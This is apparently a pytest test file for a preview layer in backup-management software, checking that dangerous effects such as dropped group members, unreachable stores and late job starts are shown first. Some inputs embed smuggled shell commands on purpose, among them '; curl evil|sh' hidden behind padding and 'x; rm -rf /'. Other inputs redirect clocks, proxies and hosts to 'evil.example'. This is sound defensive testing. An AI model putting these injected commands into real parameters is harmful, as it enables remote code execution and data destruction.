"""What is grave stands first, whole, and for how many: what a request hides in a list, a length, a name, an address."""

from __future__ import annotations

from typing import Any

import pytest

from tests.previews.test_cases import as_requested, policy_of_three_tiers
from tests.previews.test_hostile_requests import ODD, read
from tests.previews.test_wording import sample
from tests.support.previewing import describe
from tests.support.write_samples import place

LATE = "2099-01-01T00:00:00Z"


def offline(app: Any) -> dict[str, Any]:
    store: dict[str, Any] = next(s for s in app.state.tenant.all("protection-stores") if s["state"] == "OFFLINE")
    return store


# --- long values ------------------------------------------------------------------------------------------------------


async def test_a_program_is_told_to_its_last_letter_in_the_text_and_in_the_whole_difference(app: Any) -> None:
    policy, host = policy_of_three_tiers(app.state.tenant), app.state.tenant.all("application-hosts")[0]
    tiers = as_requested(policy)
    hidden = f"{'p' * 500} ; curl evil|sh"
    tiers[1]["schedules"][0]["preScriptInfo"] = {"hostId": host["id"], "path": "/opt/ok.sh", "params": hidden}
    made = {"name": "n", "applicationType": "VMWARE", "protections": tiers}
    effect, text = await read(app, "create_protection_policy", **made)
    assert f"{'p' * 500} ; curl evil" in text
    assert any("; curl evil" in line for line in effect.whole)
    tiers[1]["schedules"][0]["preScriptInfo"]["params"] = "p" * 5_000
    effect = await describe(app, "create_protection_policy", made)
    assert "params has 5,000 characters; at most 4,000 can be shown to the person." in effect.forbidden


async def test_the_end_of_a_long_text_that_weighs_nothing_is_told_too(app: Any) -> None:
    inputs = sample(app, "restore_vm")
    place_of_it = {**inputs["targetVmInfo"], "description": f"{'d' * 300} the end"}
    effect, text = await read(app, "restore_vm", **{**inputs, "targetVmInfo": place_of_it})
    assert "the end" in text
    assert "(308 characters, digest " in text
    assert any("d" * 300 in line for line in effect.whole)


# --- members ----------------------------------------------------------------------------------------------------------


async def test_a_member_that_is_given_twice_hides_no_other_that_is_dropped(app: Any) -> None:
    groups = app.state.tenant.all("virtual-machine-protection-groups")
    group = next(g for g in groups if len(g["assets"]) > 2 and g["vmProtectionGroupType"] == "CUSTOM")
    stay, gone = group["assets"][:-1], group["assets"][-1]
    assets = [{"id": m["id"]} for m in (*stay, stay[0])]
    effect, text = await read(app, "update_vm_protection_group", vmProtectionGroupId=group["id"], assets=assets)
    assert effect.gravest == f'DROPS 1 member of {len(group["assets"])}: "{gone["name"]}".'
    assert f"{len(stay)} of {len(group['assets'])} stay, {len(stay)} are in it." in text
    assert f'member "{stay[0]["name"]}" (id {stay[0]["id"]}) (given 2 times): named again' in text


@pytest.mark.parametrize("form", ["{}/", "https://x{}", "/backup-recovery/v1beta1/virtual-machines/{id}"])
async def test_what_is_no_address_of_a_database_is_no_member(app: Any, form: str) -> None:
    group = app.state.tenant.all("mssql-database-protection-groups")[0]
    uris = [form.format(m["resourceUri"], id=ODD) for m in group["members"]]
    inputs = {"mssqlDatabaseProtectionGroupId": group["id"], "members": [{"resourceUri": uri} for uri in uris]}
    effect, text = await read(app, "update_mssql_database_protection_group", **inputs)
    stays = form == "{}/"
    assert (f"drops {len(uris)} members" in effect.warnings) != stays
    assert f"{len(uris) if stays else 0} of {len(uris)} stay, {len(set(uris))} " in text
    assert ("No addresses of SQL databases of this service" in text) != stays


async def test_a_filter_that_changes_nothing_drops_nobody(app: Any) -> None:
    group = app.state.tenant.all("virtual-machine-protection-groups")[0]
    _, text = await read(app, "update_vm_protection_group", vmProtectionGroupId=group["id"], dynamicMemberFilter={})
    assert "DROP OUT" not in text
    assert "MEMBERS" not in text


async def test_who_gets_into_a_group_that_lists_nobody_is_read_or_asked_about(app: Any) -> None:
    instance = app.state.tenant.all("mssql-instances")[0]
    native = {"type": "MSSQL_INSTANCE", "id": instance["id"]}
    made = {"name": "g", "protectionGroupType": "NATIVE", "nativeAppInfo": native}
    effect, _ = await read(app, "create_mssql_database_protection_group", **made)
    assert effect.gravest == "PROTECTED ALREADY: 6 of 7 members."
    tags = {"type": "TAGS", "members": [{"type": "TAG", "name": "silver"}]}
    made = {"name": "g", "assetsCategory": "VMFS_VMS", "vmProtectionGroupType": "DYNAMIC", "dynamicMemberFilter": tags}
    effect, _ = await read(app, "create_vm_protection_group", **made)
    assert effect.gravest == "WHO GETS INTO IT IS NOT KNOWN, nor whether a job protects them already."


# --- policies and jobs ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "first", "note"),
    [
        ("no store", "STORE for 53 assets: ", "The tier has no store to write to then."),
        ("offline", 'Store "Local_psg-dc2-01" CANNOT BE REACHED: ', "- STORE: backup to "),
        ("no source", "SOURCE for 53 assets: ", "Which copies those of the schedule are made from then"),
        ("type", "APPLICATION for 53 assets: ", "The assets under it are of another kind"),
    ],
)
async def test_what_a_replacement_takes_from_a_policy_stands_first(
    app: Any, change: str, first: str, note: str
) -> None:
    policy = policy_of_three_tiers(app.state.tenant)
    tiers = as_requested(policy)
    inputs = {"name": policy["name"], "applicationType": policy["applicationType"], "protections": tiers}
    if change == "no store":
        del tiers[1]["protectionStoreId"]
    elif change == "offline":
        tiers[1]["protectionStoreId"] = offline(app)["id"]
    elif change == "no source":
        del tiers[1]["schedules"][0]["sourceProtectionScheduleId"]
    else:
        inputs["applicationType"] = "MSSQL"
    if policy.get("description"):
        inputs["description"] = policy["description"]
    effect, text = await read(app, "replace_protection_policy", protectionPolicyId=policy["id"], **inputs)
    assert effect.gravest.startswith(first)
    assert note in text
    assert effect.danger.gated


async def test_a_job_that_begins_late_or_writes_to_what_cannot_be_reached_asks_first(app: Any) -> None:
    inputs = sample(app, "create_protection_job")
    effect, _ = await read(app, "create_protection_job", **inputs, effectiveFromDateTime=LATE)
    assert "a late start" in effect.warnings
    assert any(line.startswith("NOTHING PROTECTS IT BEFORE 2099-01-01") for line in effect.consequences)
    store = offline(app)
    branch = next(p for p in app.state.tenant.all("protection-policies") if store["id"] in str(p["protections"]))
    effect, text = await read(app, "create_protection_job", **{**inputs, "protectionPolicyId": branch["id"]})
    assert f'Store "{store["name"]}" CANNOT BE REACHED' in text
    policy = policy_of_three_tiers(app.state.tenant)
    tier = {"id": policy["protections"][1]["id"], "protectionStoreId": store["id"], "schedules": [{"scheduleId": 77}]}
    overrides = {"protections": [tier]}
    _, text = await read(app, "create_protection_job", **inputs, overrides=overrides)
    assert f'Store "{store["name"]}" CANNOT BE REACHED' in text
    assert "The policy does not have what is overridden in its tiers: schedule 77." in text


async def test_parameters_of_a_program_are_not_told_as_a_program(app: Any) -> None:
    inputs = sample(app, "create_protection_job")
    policy = policy_of_three_tiers(app.state.tenant)
    tier = policy["protections"][1]
    schedule = {"scheduleId": tier["schedules"][0]["scheduleId"], "preScriptInfo": {"params": "x; rm -rf /"}}
    overrides = {"protections": [{"id": tier["id"], "schedules": [schedule]}]}
    effect, _ = await read(app, "create_protection_job", **inputs, overrides=overrides)
    assert 'program before each run params: "x; rm -rf /"' in effect.gravest


async def test_a_run_of_what_is_no_asset_of_the_job_says_so(app: Any) -> None:
    job = next(j for j in app.state.tenant.all("protection-jobs") if j["operational"] == "ACTIVE")
    vm = next(v for v in app.state.tenant.all("virtual-machines") if v["id"] not in str(job))
    _, text = await read(app, "run_protection_job", protectionJobId=job["id"], includeResources=[vm["id"]])
    assert f'Of includeResources these are no assets of this job: "{vm["name"]}" (id {vm["id"]}).' in text


async def test_a_lock_that_cannot_be_measured_asks_first(app: Any) -> None:
    group = app.state.tenant.all("volume-protection-groups")[0]
    for length in ({"unit": "YEARS"}, {"value": 3}, {}):
        inputs = {"volumeProtectionGroupId": group["id"], "name": "x", "lockFor": length}
        effect = await describe(app, "create_volume_protection_group_snapshot", inputs)
        assert effect.gravest.startswith("LOCK: ")
        assert "{" not in "\n".join(effect.lines())
        assert effect.reversibility == "It cannot be deleted before its lock ends."


async def test_the_id_of_another_kind_of_thing_is_no_store(app: Any) -> None:
    inputs = sample(app, "create_volume_protection_group_backup")
    effect = await describe(
        app,
        "create_volume_protection_group_backup",
        {**inputs, "protectionStoreId": inputs["volumeProtectionGroupId"]},
    )
    assert effect.forbidden == f"There is no protection store with the id {inputs['volumeProtectionGroupId']}."


# --- addresses, clocks, proxies ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["vm", "own gateway", "name server", "name"])
async def test_a_new_gateway_takes_no_address_or_name_that_is_in_use(app: Any, kind: str) -> None:
    tenant = app.state.tenant
    manager, cluster, datastore = place(tenant)
    vm = tenant.all("virtual-machines")[0]
    address, line = {
        "vm": (vm["networkAddress"], f'ADDRESS IN USE: {vm["networkAddress"]} is that of the VM "'),
        "own gateway": ("10.9.0.1", "ADDRESS IN USE: 10.9.0.1 is its own gateway; its whole network is cut off."),
        "name server": ("10.1.0.53", "ADDRESS IN USE: 10.1.0.53 is the name server of the "),
        "name": ("10.9.0.9", f'A VM named "{vm["name"]}" EXISTS'),
    }[kind]
    network = {"name": "VM Network", "networkType": "STATIC", "networkAddress": address, "gateway": "10.9.0.1"}
    size = {"maxOnPremRetentionDays": 60, "maxOnPremDailyProtectedDataInTiB": 5.0}
    machine = {"clusterId": cluster["id"], "datastoreIds": [datastore["id"]], "network": network, **size}
    name = vm["name"] if kind == "name" else "psg-new"
    effect = await describe(
        app,
        "create_protection_store_gateway",
        {"name": name, "hypervisorManagerId": manager["id"], "vmConfig": machine},
    )
    assert any(one.startswith(line) for one in effect.consequences), effect.consequences
    assert effect.danger.gated


async def test_what_is_registered_at_an_address_is_registered_twice_and_cuts_nothing_off(app: Any) -> None:
    host, box = app.state.tenant.all("application-hosts")[0], app.state.tenant.all("storeonces")[0]
    login = {"username": "u", "password": "hunter2"}
    made = {"networkAddress": f"{host['networkAddress'].upper()}.", "credentials": login}
    effect, text = await read(app, "create_application_host", **made)
    assert effect.gravest.endswith("the same machine is registered twice.")
    assert "cut off" not in text
    made = {"networkAddress": "192.0.2.1", "serialNumber": box["serialNumber"], "credentials": login}
    effect, _ = await read(app, "create_storeonce", **made)
    assert "registered already" in effect.warnings


@pytest.mark.parametrize(
    ("change", "kind", "note"),
    [
        ({"dateTime": {"methodDateTimeSet": "VM_HOST", "utcDateTime": LATE}}, "CLOCK", "nothing brings those back"),
        ({"ntp": [{"networkAddress": "evil.example"}]}, "CLOCK", "copies expire and locks end before their time"),
        ({"proxy": {"networkAddress": "evil.example"}}, "PROXY", "goes through it from then on, with its credentials"),
        ({"dns": []}, "NAMES", "it is cut off"),
    ],
)
async def test_a_clock_a_proxy_and_name_servers_stand_first(app: Any, change: Any, kind: str, note: str) -> None:
    gateway = app.state.tenant.all("protection-store-gateways")[0]
    effect, text = await read(app, "update_protection_store_gateway", protectionStoreGatewayId=gateway["id"], **change)
    assert effect.gravest.startswith(f"{kind}: ")
    assert note in text
    assert effect.reversibility != "It can be changed back."


async def test_an_account_that_is_shown_to_another_machine_is_told(app: Any) -> None:
    host = app.state.tenant.all("application-hosts")[0]
    _, text = await read(app, "update_application_host", applicationHostId=host["id"], networkAddress="evil.example")
    assert "The stored account is presented to whatever answers there; that cannot be taken back." in text


async def test_an_interface_that_only_the_record_changes_breaks_nothing_off(app: Any) -> None:
    gateway = app.state.tenant.all("protection-store-gateways")[0]
    nic = {"id": gateway["network"]["nics"][0]["id"], "gateway": "10.1.0.2"}
    inputs = {"protectionStoreGatewayId": gateway["id"], "nic": nic}
    _, text = await read(app, "update_protection_store_gateway_nic", **inputs, force=False)
    assert "With force: false only the cloud's record of it is corrected." in text
    assert "break off" not in text
